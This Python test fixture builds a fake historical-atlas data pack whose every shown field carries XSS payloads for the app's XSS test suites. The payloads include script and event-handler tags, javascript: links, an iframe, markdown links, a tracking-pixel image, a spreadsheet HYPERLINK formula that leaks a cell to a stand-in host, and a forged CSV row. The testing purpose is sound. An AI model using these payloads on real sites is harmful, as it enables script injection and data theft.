"""A valid pack whose every shown text is hostile HTML, script or markdown, for the XSS suites.

Payloads sit in the manifest (title, sources, links), the pack's own polity names, an
organisation, events, relationships (titles, notes, attributes, place labels), the tour
(titles, captions) and the corpus itself, which the records quote verbatim. Each payload
would announce itself (a dialog, an element, a request) if anything rendered it as markup.
"""

from __future__ import annotations

import json
from pathlib import Path

PAYLOADS = {
    "img": "<img src=x onerror=alert(1)>",
    "script": "</script><script>alert(2)</script>",
    "svg": '"><svg onload=alert(4)>',
    "js-string": "';alert(5);//",
    "a-href": '<a href="javascript:alert(8)">link</a>',
    "iframe": '<iframe srcdoc="<script>alert(9)</script>"></iframe>',
    "style": "<style>body{display:none}</style>",
    "md-link": "[click me](javascript:alert(6))",
    "md-image": "![pixel](http://198.51.100.7/pixel.png)",
}
JS_LINK = "javascript:alert(3)"
# Spreadsheet formula and a line break that would start a forged CSV row.
FORMULA = '=HYPERLINK("http://198.51.100.7/?leak="&A1,"open")'
NEWLINE_ROW = "Invented sources\nxss-forged,relationship,member_of,forged row"
ALL = " ".join(PAYLOADS.values())
SHORT = PAYLOADS["img"] + PAYLOADS["svg"]  # for fields limited to 200 characters
EXTERNAL_HOST = "198.51.100.7"  # TEST-NET-2: nothing there; any request to it is a leak

CORPUS_LINES = [
    f"The congress of {PAYLOADS['img']} met in Paris in 1920 {PAYLOADS['script']} openly.",
    f"Syldavia {PAYLOADS['svg']} sent troops {PAYLOADS['a-href']} to Poland.",
    f"The league {PAYLOADS['iframe']} {PAYLOADS['style']} {PAYLOADS['md-link']} grew.",
    f"Ruritania {PAYLOADS['js-string']} occupied {PAYLOADS['md-image']} the border.",
]
QUOTES = [
    f"congress of {PAYLOADS['img']} met",
    f"Syldavia {PAYLOADS['svg']} sent troops",
    f"league {PAYLOADS['iframe']} {PAYLOADS['style']}",
    f"Ruritania {PAYLOADS['js-string']} occupied {PAYLOADS['md-image']}",
]


def q(text: str) -> str:
    """A YAML double-quoted scalar (JSON strings are valid YAML)."""
    return json.dumps(text)


def _link(index: int) -> str:
    return f"  excerpts:\n    - excerpt: xss-0{index + 1}\n      quote: {q(QUOTES[index])}\n"


def _files() -> dict[str, str]:
    manifest = (
        f"title: {q('Atlas ' + ALL)}\ndescription: {q(ALL)}\ncorpus: corpus.txt\n"
        "excerpt_prefix: xss\nsources:\n"
        f"  - title: {q(NEWLINE_ROW + ' ' + ALL)}\n    author: {q(SHORT)}\n    url: {q(JS_LINK)}\n"
        f"    licence: {q(ALL)}\n    licence_url: {q('javascript:alert(13)')}\n"
        "horizon:\n  start: 1900\n  end: 1950\ndefault_view:\n  year: 1920\n"
    )
    polities = (
        f"- id: ruritania\n  name: {q('Ruritania ' + ALL)}\n  start: 1900\n"
        f"  lat: 50.0\n  lon: 15.0\n  note: {q(ALL)}\n"
        f"- id: syldavia\n  name: {q('Syldavia ' + ALL)}\n  start: 1900\n"
        "  lat: 45.0\n  lon: 20.0\n"
    )
    organisations = (
        f"- id: xss-league\n  name: {q('League ' + ALL)}\n  kind: alliance\n"
        "  seat:\n    polity: france\n  start: 1919\n  end: 1946\n  provenance: stated\n"
        f"  note: {q(ALL)}\n  attributes:\n    motto: {q(ALL)}\n" + _link(2)
    )
    events = (
        f"- id: xss-congress\n  title: {q('Congress ' + ALL)}\n  kind: congress\n"
        "  start: 1920-05-01\n  places:\n    - polity: poland\n"
        f"    - lat: 48.85\n      lon: 2.35\n      label: {q(SHORT)}\n"
        f"  participants: [syldavia, ruritania]\n  provenance: context\n  note: {q(ALL)}\n"
        + _link(0)
    )
    relationships = (
        f"- id: xss-member\n  kind: member_of\n  subject: poland\n  object: xss-league\n"
        f"  title: {q(FORMULA)}\n  start: 1919-06-28\n  end: 1939\n  provenance: stated\n"
        + _link(2)
        + "- id: xss-deployed\n  kind: deployed_to\n  subject: syldavia\n  object: poland\n"
        f"  start: 1920\n  end: 1922\n  provenance: stated\n  note: {q(ALL)}\n"
        f"  attributes:\n    troops: {q(PAYLOADS['img'])}\n"
        + _link(1)
        + "- id: xss-occupied\n  kind: occupied\n  subject: ruritania\n  object: france\n"
        f"  start: 1920-02-01\n  end: 1921\n  provenance: context\n  note: {q(ALL)}\n" + _link(3)
    )
    tours = (
        f"- id: xss-tour\n  title: {q('Tour ' + ALL)}\n  description: {q(ALL)}\n  slides:\n"
        f"    - title: {q('Slide ' + ALL)}\n      date: 1920-06-01\n"
        f"      focus: [xss-congress]\n      caption: {q(ALL)}\n      excerpts: [xss-01]\n"
    )
    return {
        "manifest.yaml": manifest,
        "corpus.txt": "\n".join(CORPUS_LINES) + "\n",
        "polities.yaml": polities,
        "organisations.yaml": organisations,
        "events.yaml": events,
        "relationships.yaml": relationships,
        "tours.yaml": tours,
    }


def write_xss_pack(directory: Path) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    for name, text in _files().items():
        (directory / name).write_text(text, encoding="utf-8")
    return directory
